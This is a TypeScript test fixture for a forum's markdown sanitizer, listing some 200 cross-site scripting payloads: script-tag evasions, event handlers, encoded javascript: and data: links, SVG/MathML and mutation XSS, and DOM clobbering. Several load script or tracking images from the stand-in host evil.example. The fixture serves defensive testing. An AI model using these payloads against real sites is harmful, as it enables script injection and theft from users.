// Known XSS vectors, written as a member would type them into a post. After
// the OWASP XSS filter evasion cheat sheet, DOMPurify's own bypass history and
// markdown-specific tricks. Every payload either calls alert(1) (the browser
// test traps alert, confirm, prompt and print) or sets window.__xss, and every
// foreign host is evil.example, so a request there would show up in the test.
// Used by src/lib/server/forum/markdown.spec.ts (the HTML) and tests/e2e/xss.e2e.ts (real Chromium).

const svgScript =
	'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=';
const htmlScript = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

/** Script elements in many spellings (raw HTML must never become markup). */
const scriptTags = [
	'<script>alert(1)</script>',
	'<ScRiPt>window.__xss=1</sCrIpT>',
	'<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
	'<script/xss src="https://evil.example/xss.js"></script>',
	'<script src=//evil.example/.j>',
	'<script\t>alert(1)</script>',
	'<script\n>window.__xss=1</script\n>',
	'<script>alert(1)//',
	'<<script>alert(1);//<</script>',
	'<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'</script><script>window.__xss=1</script>',
	'<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
	'<SCRIPT ="blah" SRC="https://evil.example/xss.js"></SCRIPT>',
	'<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>',
	'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>',
	'<script type="module">window.__xss=1</script>',
	'<scr\u0000ipt>alert(1)</scr\u0000ipt>',
	'<!--<script>-->alert(1)<!--</script>-->',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;script&#62;window.__xss=1&#60;/script&#62;',
	'\\<script>alert(1)\\</script>',
	'%3Cscript%3Ealert(1)%3C/script%3E',
	'＜script＞alert(1)＜/script＞',
	'+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
	'# <script>alert(1)</script>',
	'> <script>window.__xss=1</script>',
	'- <script>alert(1)</script>',
	'| a |\n|---|\n| <script>alert(1)</script> |',
	'`<script>alert(1)</script>`',
	'```\n<script>window.__xss=1</script>\n```',
	'<div>\n<script>alert(1)</script>\n</div>',
	'<template><script>alert(1)</script></template>'
];

/** Event-handler attributes, quoted, unquoted, encoded and split. */
const eventHandlers = [
	'<img src=x onerror=alert(1)>',
	'<img src="x" onerror="window.__xss=1">',
	'<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
	'<img src=x:alert(alt) onerror=eval(src) alt=0>',
	'<img/src=x/onerror=alert(1)>',
	'<img src=x onerror\u000b=alert(1)>',
	'<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
	'<img """><script>alert(1)</script>">',
	'<img src=x onerror=alert(1)//',
	'<body onload=alert(1)>',
	'<BODY ONLOAD=window.__xss=1>',
	'<div onmouseover="alert(1)">hover me</div>',
	'<a onmouseover="alert(1)">hover me</a>',
	'<a href="#" onclick="window.__xss=1">click me</a>',
	'<p tabindex=0 autofocus onfocus=alert(1)>focus me</p>',
	'<input autofocus onfocus=alert(1)>',
	'<details open ontoggle=alert(1)>',
	'<video><source onerror="alert(1)">',
	'<audio src=x onerror=window.__xss=1>',
	'<marquee onstart=alert(1)>x</marquee>',
	'<select autofocus onfocus=alert(1)>',
	'<textarea autofocus onfocus=alert(1)>',
	'<x onclick=alert(1)>click me',
	'<style onload=alert(1)></style>',
	'**<img src=x onerror=alert(1)>**',
	'*<img src=x onerror=window.__xss=1>*',
	'> <img src=x onerror=alert(1)>',
	'[x](https://example.org "\\" onmouseover=\\"alert(1)")',
	'[x](https://example.org" onmouseover="alert(1))',
	'[x](#" onclick="window.__xss=1)',
	'![x" onerror="alert(1)](https://example.org/x.png)',
	'![x](/img.png" onerror="alert(1))',
	'![x](/x.png "\\" onerror=\\"window.__xss=1")',
	'![x](x" onerror="alert(1))'
];

/** Dangerous schemes in markdown links, with entity, whitespace and case tricks. */
const schemes = [
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x](javascript:window.__xss=1)',
	'[x]( javascript:alert(1))',
	'[x](<javascript:alert(1)>)',
	'[x](<javascript:alert(1)> "t")',
	'[x](javascript\\:alert(1))',
	'[x](javascript&#58;alert(1))',
	'[x](javascript&colon;alert(1))',
	'[x](&#106;avascript:alert(1))',
	'[x](&#x6A;avascript:window.__xss=1)',
	'[x](java&#115;cript:alert(1))',
	'[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
	'[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))',
	'[x](jav&#x09;ascript:alert(1))',
	'[x](jav&#x0A;ascript:alert(1))',
	'[x](jav&#x0D;ascript:alert(1))',
	'[x](java&Tab;script:alert(1))',
	'[x](java&NewLine;script:alert(1))',
	'[x](&#14;javascript:alert(1))',
	'[x](\u0001javascript:alert(1))',
	'[x](java\u0000script:alert(1))',
	'[x](\u2028javascript:alert(1))',
	'[x](javascript://%0Aalert(1))',
	'[x](javascript://comment%0Awindow.__xss=1)',
	'[x](javascript:alert(1)#https://example.org)',
	'[x](javascript:alert\\(1\\))',
	'[x](javascript:alert&#40;1&#41;)',
	'[x](javascript:this;alert(1) "title")',
	"[x](javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>)",
	'[x](data:text/html;base64,' + htmlScript + ')',
	'[x](data:text/html,<script>alert(1)</script>)',
	'[x](DATA:text/html,%3Cscript%3Ewindow.__xss=1%3C/script%3E)',
	'[x](data:image/svg+xml;base64,' + svgScript + ')',
	'[x](vbscript:msgbox(1))',
	'[x](VBScript:alert(1))',
	'[x](livescript:alert(1))',
	'[x](feed:javascript:alert(1))',
	'[x](file:///etc/passwd)',
	'[](javascript:alert(1))',
	'# [x](javascript:alert(1))',
	'- [x](javascript:window.__xss=1)',
	'| a |\n|---|\n| [x](javascript:alert(1)) |'
];

/** Autolinks: CommonMark `<scheme:…>` accepts any scheme; GFM links bare URLs. */
const autolinks = [
	'<javascript:alert(1)>',
	'<JAVASCRIPT:window.__xss=1>',
	'<vbscript:msgbox(1)>',
	'<data:text/html;base64,' + htmlScript + '>',
	'<javascript:alert(1)//https://example.org>',
	'www.example.org/<script>alert(1)</script>',
	'https://example.org/"onmouseover="alert(1)',
	'https://evil.example/?<img src=x onerror=alert(1)>',
	'"><img src=x onerror=alert(1)>@example.org',
	'mailto:x@example.org?body=<script>alert(1)</script>'
];

/** Reference-style links and images resolve to the same checks. */
const references = [
	'[x][1]\n\n[1]: javascript:alert(1)',
	'[x]\n\n[x]: javascript:window.__xss=1',
	'[x][]\n\n[x]: <javascript:alert(1)> "t"',
	'[x][1]\n\n[1]: &#106;avascript:alert(1)',
	'![x][img]\n\n[img]: javascript:alert(1)',
	'![x][img]\n\n[img]: https://evil.example/pixel.gif',
	'[1]: https://example.org "\\"><script>alert(1)</script>"\n\n[x][1]'
];

/** Brackets inside brackets: the link that wins must still be checked. */
const nested = [
	'[[x](javascript:alert(1))](https://example.org)',
	'[x](https://example.org)](javascript:alert(1))',
	'[![x](javascript:alert(1))](javascript:window.__xss=1)',
	'[![x](https://evil.example/x.png)](https://example.org)',
	'[x]((javascript:alert(1)))',
	'[x]([y](javascript:alert(1)))',
	'[x](javascript:alert(1) "[y](javascript:alert(2))")',
	'[<img src=x onerror=alert(1)>](https://example.org)',
	'[x](https://example.org/<script>alert(1)</script>)'
];

/** Images: only same-origin relative ones may load; nothing else may fetch. */
const images = [
	'![x](javascript:alert(1))',
	'![x](vbscript:msgbox(1))',
	'![x](data:image/svg+xml;base64,' + svgScript + ')',
	'![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
	'![x](https://evil.example/track.gif)',
	'![](https://evil.example/track.gif)',
	'![x](//evil.example/track.gif)',
	'![x](/\\evil.example/track.gif)',
	'![x](\\\\evil.example\\track.gif)',
	'![x](http:evil.example/track.gif)',
	'![x](https:evil.example/track.gif)',
	'![x](<\t//evil.example/track.gif>)',
	'![x](https://evil.example/track.gif "title")',
	'![<img src=x onerror=alert(1)>](https://evil.example/x.png)',
	'![`<img src=x onerror=alert(1)>`](/x.png)',
	'<img src="https://evil.example/track.gif">'
];

/** SVG and MathML, including DOMPurify's namespace-confusion bypasses. */
const foreignContent = [
	'<svg onload=alert(1)>',
	'<svg><g/onload=window.__xss=1//<p>',
	'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
	'<svg><use href="data:image/svg+xml;base64,' + svgScript + '#x"/></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>'
];

/** Embedding, forms, document-level elements and styles. */
const embedding = [
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
	'<iframe onload=alert(1)>',
	'<object data="javascript:alert(1)"></object>',
	'<embed src="data:image/svg+xml;base64,' + svgScript + '">',
	'<form action="javascript:alert(1)"><input type=submit></form>',
	'<button formaction=javascript:alert(1)>x</button>',
	'<isindex action=javascript:alert(1) type=image>',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<base href="https://evil.example/">',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	"<style>@import 'https://evil.example/x.css';</style>",
	'<style>body{background:url("javascript:alert(1)")}</style>',
	'<div style="background-image:url(javascript:alert(1))">x</div>',
	'<div style="width: expression(alert(1));">x</div>',
	'<xss style="behavior: url(xss.htc);">',
	'<frameset><frame src="javascript:alert(1)"></frameset>',
	'<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
	'<bgsound src="javascript:alert(1)">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="jav&#x09;ascript:alert(1)">x</a>',
	'<a href=" &#14; javascript:alert(1)">x</a>',
	'<a href="java\nscript:window.__xss=1">x</a>'
];

/** DOM clobbering: ids and names that shadow globals or document properties. */
const clobbering = [
	'<a id=__xss name=__xss href="#">x</a>',
	'<form name=getElementById></form>',
	'<img name=cookie src=x>',
	'<input name=attributes>',
	'<a id="location" href="https://evil.example/">x</a>',
	'<div id="sveltekit"></div>'
];

/** Mutation XSS: markup that changes meaning when serialised and parsed again. */
const mutation = [
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'**<noscript>**<p title="</noscript><img src=x onerror=window.__xss=1>">',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
	'<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
	'<title><p title="</title><img src=x onerror=alert(1)>">',
	'<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
	'<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
	'<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
	'<style><p title="</style><img src=x onerror=alert(1)>">',
	'<![CDATA[><img src=x onerror=alert(1)>]]>',
	'<!--><img src=x onerror=alert(1)>-->',
	'<?xml-stylesheet ><img src=x onerror=alert(1)>?>',
	'[x](https://example.org "</a><img src=x onerror=alert(1)>")',
	'<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
	'```"><img src=x onerror=alert(1)>\nx\n```',
	'~~~js onload=alert(1)\nx\n~~~',
	'<div>\n\n[x](javascript:alert(1))\n\n</div>',
	'Title <img src=x onerror=alert(1)>\n===',
	'<p>\n<img src=x onerror=window.__xss=1>'
];

export const xssVectors: string[] = [
	...scriptTags,
	...eventHandlers,
	...schemes,
	...autolinks,
	...references,
	...nested,
	...images,
	...foreignContent,
	...embedding,
	...clobbering,
	...mutation
];
